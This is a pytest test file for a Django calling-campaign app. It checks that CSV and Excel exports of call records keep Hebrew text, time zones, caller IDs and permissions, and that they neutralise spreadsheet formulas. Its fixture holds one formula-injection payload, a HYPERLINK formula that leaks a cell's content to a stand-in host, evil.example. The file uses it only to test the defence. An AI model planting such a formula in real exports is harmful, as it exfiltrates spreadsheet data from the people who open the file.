"""Issue #14, exports a manager can use: the CSV (BOM, Hebrew, times with the
campaign's offset, caller id, contact variables, keys per step, no "'" before phone
numbers but formulas neutralised) and the .xlsx with the same columns; the export
permission; a query count that does not grow with the rows."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from rest_framework.test import APIClient

from campaigns.exports import call_result, keys_text
from campaigns.models import Call, Cdr
from campaigns.models.campaigns import Outcome

from .conftest import add_cdrs

UTC = dt.UTC
# 16:53:36 UTC on 1 December is 18:53:36 in Jerusalem (winter time, +02:00).
START = dt.datetime(2026, 12, 1, 16, 53, 36, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CAMPAIGN_CLI = "+97231234567"


def cdr(number, *, cause="NORMAL_CLEARING", keys=(), minute=0, answered=True):
    start = START + dt.timedelta(minutes=minute)
    return dict(
        phone_number=number,
        start_time=start,
        answer_time=start + dt.timedelta(seconds=5) if answered else None,
        hangup_time=start + dt.timedelta(seconds=20),
        duration=20,
        billsec=15 if answered else 0,
        hangup_cause=cause,
        provider_campaign_id="req-1",
        steps={"steps": [{"step_name": step, "dtmf": key} for step, key in keys]},
    )


@pytest.fixture
def exported_campaign(draft_campaign):
    campaign = draft_campaign
    campaign.time_zone = "Asia/Jerusalem"
    campaign.cli = CAMPAIGN_CLI
    campaign.save(update_fields=["time_zone", "cli"])
    calls = list(Call.objects.filter(campaign=campaign).order_by("position"))
    calls[0].variables = {"first_name": "שרה", "customer_id": "C-001"}
    calls[1].variables = {"first_name": "Иван", "note": HYPERLINK}
    calls[1].cli = "+97239999999"
    calls[1].provider_ref = "uuid-1"
    for call in calls[:2]:
        call.save(update_fields=["variables", "cli", "provider_ref"])
    add_cdrs(
        campaign,
        [
            cdr("+972500000000", keys=(("menu", "1"), ("confirm", "2"))),
            cdr("+972500000001", keys=(("menu", "2"),), minute=1),
            cdr("+972500000002", cause="USER_BUSY", answered=False, minute=2),
        ],
    )
    return campaign


def url(name, campaign):
    return reverse(f"campaigns:{name}", args=[campaign.pk])


def read_csv(response) -> tuple[bytes, list[dict[str, str]]]:
    raw = b"".join(response.streaming_content)
    return raw, list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def read_xlsx(response) -> tuple[openpyxl.Workbook, list[dict[str, object]]]:
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    header = values[0]
    return workbook, [dict(zip(header, row, strict=True)) for row in values[1:]]


def by_number(rows):
    return {row["Phone number"]: row for row in rows}


def test_csv_is_utf8_with_bom_and_keeps_hebrew_and_the_plus(exported_campaign, manager_client):
    response = manager_client.get(url("campaign-cdrs-csv", exported_campaign))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="campaign-' in response["Content-Disposition"]
    raw, rows = read_csv(response)
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = by_number(rows)
    assert set(rows) == {"+972500000000", "+972500000001", "+972500000002"}
    first = rows["+972500000000"]
    assert first["first_name"] == "שרה"
    assert first["customer_id"] == "C-001"
    assert rows["+972500000001"]["first_name"] == "Иван"


def test_csv_columns_a_manager_needs(exported_campaign, manager_client):
    _, rows = read_csv(manager_client.get(url("campaign-cdrs-csv", exported_campaign)))
    header = list(rows[0])
    # The flow's variable first, then the others alphabetically.
    assert header[:5] == ["Phone number", "Caller ID", "first_name", "customer_id", "note"]
    assert "Start time (Asia/Jerusalem)" in header
    rows = by_number(rows)
    first, second, busy = (rows[f"+97250000000{i}"] for i in range(3))
    assert first["Start time (Asia/Jerusalem)"] == "2026-12-01T18:53:36+02:00"
    assert first["Answer time (Asia/Jerusalem)"] == "2026-12-01T18:53:41+02:00"
    assert first["Caller ID"] == CAMPAIGN_CLI  # the campaign's, the call has none
    assert second["Caller ID"] == "+97239999999"  # the call's own
    assert first["Keys pressed (step: key)"] == "menu: 1 | confirm: 2"
    assert (first["Outcome"], first["Answered"]) == ("answered", "True")
    assert (busy["Outcome"], busy["Answered"]) == ("busy", "False")
    assert busy["Answer time (Asia/Jerusalem)"] == ""
    assert (busy["Hangup cause"], busy["Q.850 code"]) == ("USER_BUSY", "17")
    assert busy["Hangup cause description"] == "The far end was busy."
    assert (first["Duration (s)"], first["Talk time (s)"]) == ("20", "15")
    assert second["Provider call id"] == "uuid-1"
    assert first["Provider campaign id"] == "req-1"
    assert first["Our call reference"]
    assert busy["note"] == ""


def test_csv_neutralises_a_formula_but_not_a_phone_number(exported_campaign, manager_client):
    _, rows = read_csv(manager_client.get(url("campaign-cdrs-csv", exported_campaign)))
    rows = by_number(rows)
    assert rows["+972500000001"]["note"] == "'" + HYPERLINK
    assert "+972500000001" in rows  # the number as it is, no "'"
    assert rows["+972500000001"]["Caller ID"] == "+97239999999"


def test_csv_keeps_the_table_filters(exported_campaign, manager_client):
    response = manager_client.get(url("campaign-cdrs-csv", exported_campaign), {"answered": "no"})
    _, rows = read_csv(response)
    assert [row["Phone number"] for row in rows] == ["+972500000002"]
    bad = manager_client.get(url("campaign-cdrs-csv", exported_campaign), {"outcome": "maybe"})
    assert bad.status_code == 422


def test_xlsx_has_the_same_columns_with_text_numbers_and_real_times(
    exported_campaign, manager_client
):
    response = manager_client.get(url("campaign-cdrs-xlsx", exported_campaign), {"key": "1"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="campaign-' in response["Content-Disposition"]
    workbook, rows = read_xlsx(response)
    _, csv_rows = read_csv(manager_client.get(url("campaign-cdrs-csv", exported_campaign)))
    assert list(rows[0]) == list(csv_rows[0])
    assert [row["Phone number"] for row in rows] == ["+972500000000"]  # the key filter
    first = rows[0]
    assert first["first_name"] == "שרה"
    assert first["Caller ID"] == CAMPAIGN_CLI
    assert first["Start time (Asia/Jerusalem)"] == dt.datetime(2026, 12, 1, 18, 53, 36)
    assert first["Keys pressed (step: key)"] == "menu: 1 | confirm: 2"
    assert (first["Outcome"], first["Answered"], first["Duration (s)"]) == ("answered", True, 20)
    sheet = workbook.worksheets[0]
    assert sheet["A1"].font.b
    assert sheet["A2"].data_type == "s"  # "+972..." is text, not a number
    time_column = list(first).index("Start time (Asia/Jerusalem)") + 1
    assert sheet.cell(row=2, column=time_column).is_date


def test_xlsx_stores_a_formula_as_plain_text(exported_campaign, manager_client):
    response = manager_client.get(url("campaign-cdrs-xlsx", exported_campaign))
    workbook, rows = read_xlsx(response)
    note_column = list(rows[0]).index("note") + 1
    sheet = workbook.worksheets[0]
    cells = [sheet.cell(row=i, column=note_column) for i in range(2, sheet.max_row + 1)]
    cell = next(cell for cell in cells if cell.value)
    assert cell.value == HYPERLINK and cell.data_type == "s"


def test_the_campaign_page_offers_both_downloads_with_its_filters(
    exported_campaign, manager_client, viewer_client
):
    html = manager_client.get(url("campaign-cdrs", exported_campaign), {"answered": "no"})
    html = html.content.decode()
    assert "Download CSV" in html and "Download Excel (.xlsx)" in html
    assert f"{url('campaign-cdrs-xlsx', exported_campaign)}?answered=no" in html
    viewer_html = viewer_client.get(url("campaign-detail", exported_campaign)).content.decode()
    assert "Download CSV" not in viewer_html and "Download Excel" not in viewer_html


def test_exporting_needs_the_export_permission(exported_campaign, viewer_client, viewer):
    for name in ("campaign-cdrs-csv", "campaign-cdrs-xlsx"):
        assert viewer_client.get(url(name, exported_campaign)).status_code == 403
    api = APIClient()
    api.force_authenticate(viewer)
    for path in ("cdrs-csv", "cdrs-xlsx"):
        response = api.get(f"/api/campaigns/{exported_campaign.pk}/{path}/")
        assert response.status_code == 403


def test_the_api_gives_the_same_file(exported_campaign, manager, manager_client):
    api = APIClient()
    api.force_authenticate(manager)
    from_api = api.get(f"/api/campaigns/{exported_campaign.pk}/cdrs-csv/")
    from_page = manager_client.get(url("campaign-cdrs-csv", exported_campaign))
    assert from_api.status_code == 200
    assert b"".join(from_api.streaming_content) == b"".join(from_page.streaming_content)
    xlsx = api.get(f"/api/campaigns/{exported_campaign.pk}/cdrs-xlsx/")
    assert xlsx.status_code == 200
    assert read_xlsx(xlsx)[1][0]["Phone number"] == "+972500000002"


def _queries(client, campaign, name) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url(name, campaign))
        b"".join(response.streaming_content)
    return len(queries)


@pytest.mark.parametrize("name", ["campaign-cdrs-csv", "campaign-cdrs-xlsx"])
def test_the_query_count_does_not_grow_with_the_rows(draft_campaign, manager_client, name):
    add_cdrs(draft_campaign, [cdr(f"+97250000000{i}", minute=i) for i in range(2)])
    few = _queries(manager_client, draft_campaign, name)
    Cdr.objects.filter(campaign=draft_campaign).delete()
    add_cdrs(draft_campaign, [cdr(f"+97250000000{i}", minute=i) for i in range(6)])
    assert Cdr.objects.filter(campaign=draft_campaign).count() == 6
    assert _queries(manager_client, draft_campaign, name) == few


@pytest.mark.parametrize(
    ("stored", "result"),
    [
        # An answer time, talk time or a key pressed: answered, whatever the cause.
        (dict(outcome="failed", answered=False, answer=True), ("answered", True)),
        (dict(outcome="no_answer", answered=False, billsec=3), ("answered", True)),
        (dict(outcome="no_answer", answered=False, keys=";menu:1;"), ("answered", True)),
        # A provider's own "answered" status is kept on the stored flag.
        (dict(outcome="answered", answered=True), ("answered", True)),
        # A CDR CSV refreshed a steps-report row: no answer time, the cause said
        # NORMAL_CLEARING. The CDR's times are the word: not answered.
        (dict(outcome="answered", answered=False), ("no_answer", False)),
        # A steps report alone (no times): the cause is all there is.
        (dict(outcome="answered", answered=False, timed=False), ("answered", True)),
        (dict(outcome="busy", answered=False), ("busy", False)),
        (dict(outcome="no_report", answered=False, timed=False), ("no_report", False)),
    ],
)
def test_outcome_and_answered_never_disagree(stored, result):
    outcome, answered = call_result(
        outcome=stored["outcome"],
        answered=stored["answered"],
        answer_time=START if stored.get("answer") else None,
        billsec=stored.get("billsec", 0),
        keys=stored.get("keys", ""),
        start_time=START if stored.get("timed", True) else None,
    )
    assert (outcome, answered) == result
    assert (outcome == Outcome.ANSWERED) == answered


def test_keys_read_as_step_and_key_in_the_order_pressed():
    assert keys_text(";menu:1;confirm:2;menu:1;") == "menu: 1 | confirm: 2 | menu: 1"
    assert keys_text(";#1:1;#2:3;") == "#1: 1 | #2: 3"
    assert keys_text("") == ""
